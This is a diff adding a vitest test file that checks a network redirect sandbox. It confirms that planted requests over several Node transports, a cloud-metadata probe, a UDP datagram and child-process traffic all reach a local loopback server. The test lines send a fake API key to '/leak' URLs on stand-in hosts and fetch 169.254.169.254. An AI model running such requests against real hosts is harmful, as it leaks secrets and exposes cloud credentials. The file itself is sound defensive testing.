@@ -1,0 +1,102 @@
+/** The leak alarm: a planted request of every transport arrives at the loopback server, and nowhere else. */
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { execa } from 'execa';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { createCertificateAuthority } from './certificates.ts';
+import { type LoopbackServer, type ReceivedRequest, startLoopbackServer } from './loopback-server.ts';
+import { writeNetworkFiles } from './preload.ts';
+
+const folder = mkdtempSync(path.join(os.tmpdir(), 'redirect-test-'));
+const received: ReceivedRequest[] = [];
+let server: LoopbackServer;
+let journal: string;
+let environment: Readonly<Record<string, string>>;
+
+beforeAll(async () => {
+  const authority = await createCertificateAuthority();
+  server = await startLoopbackServer(authority);
+  server.serve([], (request) => received.push(request));
+  ({ journal, environment } = writeNetworkFiles(folder, server.port, authority.certificate));
+});
+
+afterAll(async () => {
+  await server.close();
+  rmSync(folder, { recursive: true });
+});
+
+/** Runs code in a process of its own under the redirect; its standard output. */
+async function runRedirected(code: string): Promise<string> {
+  const { stdout } = await execa(process.execPath, ['--input-type=module', '--eval', code], {
+    env: environment,
+    extendEnv: false,
+    cwd: fileURLToPath(new URL('../..', import.meta.url)),
+  });
+  return stdout;
+}
+
+function requestsTo(host: string): ReceivedRequest[] {
+  return received.filter(({ url }) => url.hostname === host);
+}
+
+describe('a process under the redirect', () => {
+  it.each([
+    ['fetch', `await fetch('https://fetch.example.com/leak', { headers: { 'x-api-key': 'planted' } });`],
+    [
+      'node:https',
+      `import https from 'node:https'; await new Promise((done) => https.get('https://node-https.example.com/leak', { headers: { 'x-api-key': 'planted' } }, (response) => { response.resume(); response.on('end', done); }));`,
+    ],
+    [
+      'node:http',
+      `import http from 'node:http'; await new Promise((done) => http.get('http://node-http.example.com/leak', { headers: { 'x-api-key': 'planted' } }, (response) => { response.resume(); response.on('end', done); }));`,
+    ],
+    [
+      'undici',
+      `import { fetch } from 'undici'; await fetch('https://undici.example.com/leak', { headers: { 'x-api-key': 'planted' } });`,
+    ],
+    [
+      'http2',
+      `import http2 from 'node:http2'; const client = http2.connect('https://http2.example.com'); const request = client.request({ ':path': '/leak', 'x-api-key': 'planted' }); request.resume(); await new Promise((done) => request.on('end', done)); client.close();`,
+    ],
+    [
+      'http2-cleartext',
+      `import http2 from 'node:http2'; const client = http2.connect('http://http2-cleartext.example.com'); const request = client.request({ ':path': '/leak', 'x-api-key': 'planted' }); request.resume(); await new Promise((done) => request.on('end', done)); client.close();`,
+    ],
+  ])('sends %s to the loopback server, with its headers', async (name, code) => {
+    await runRedirected(code);
+    const host = `${name.replace(':', '-')}.example.com`;
+    expect(requestsTo(host)).toMatchObject([{ headers: { 'x-api-key': 'planted' } }]);
+    expect(requestsTo(host)[0]!.httpVersion).toBe(name.startsWith('http2') ? '2.0' : '1.1');
+  });
+
+  it('sends a connection to a bare address there too', async () => {
+    await runRedirected(`await fetch('http://169.254.169.254/latest/meta-data');`);
+    expect(requestsTo('169.254.169.254')).toHaveLength(1);
+  });
+
+  it('finds no one listening on loopback', async () => {
+    const output = await runRedirected(
+      `await fetch('http://127.0.0.1:11434/api/tags').catch((error) => console.log(error.cause.code));`,
+    );
+    expect(output).toBe('ECONNREFUSED');
+    expect(readFileSync(journal, 'utf8')).toContain('"kind":"refused"');
+  });
+
+  it('sends no datagram, and the alarm hears of it', async () => {
+    await runRedirected(
+      `import dgram from 'node:dgram'; const socket = dgram.createSocket('udp4'); socket.send('leak', 5353, '224.0.0.251', () => socket.close());`,
+    );
+    expect(readFileSync(journal, 'utf8')).toContain(
+      '"kind":"blocked","transport":"udp","address":"224.0.0.251"',
+    );
+  });
+
+  it('passes the redirect on to its child processes', async () => {
+    await runRedirected(
+      `import { execFileSync } from 'node:child_process'; execFileSync(process.execPath, ['--eval', "fetch('https://child.example.com/leak')"]);`,
+    );
+    expect(requestsTo('child.example.com')).toHaveLength(1);
+  });
+});
